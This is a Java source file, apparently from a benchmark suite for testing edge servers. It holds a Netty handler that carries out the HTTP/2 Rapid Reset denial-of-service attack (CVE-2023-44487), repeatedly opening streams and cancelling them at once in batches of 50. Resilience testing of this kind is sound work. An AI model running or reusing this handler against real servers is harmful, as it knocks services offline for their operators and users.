package dev.backsource.benchmarks.edge.hostile;

import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Headers;
import java.util.function.Supplier;

/** Requests that are reset at once, many at each beat (CVE-2023-44487). */
@SuppressWarnings("FutureReturnValueIgnored") // A connection that breaks is closed, and nothing is owed on it.
final class ResetStreams extends Http2AttackHandler {
    private static final int AT_ONCE = 50;
    private static final int WINDOW = 65_535;

    private final Supplier<Http2Headers> heads;

    ResetStreams(AttackCounts counts, Supplier<Http2Headers> heads) {
        super(counts, WINDOW);
        this.heads = heads;
    }

    @Override
    void opened(ChannelHandlerContext context) {
        goOn(context);
    }

    @Override
    public void goOn(ChannelHandlerContext context) {
        for (var i = 0; i < AT_ONCE && context.channel().isWritable(); i++) {
            var stream = nextStream();
            writer().writeHeaders(context, stream, heads.get(), 0, true, context.newPromise());
            writer().writeRstStream(context, stream, Http2Error.CANCEL.code(), context.newPromise());
            counts().asked(1);
        }
        context.flush();
    }
}
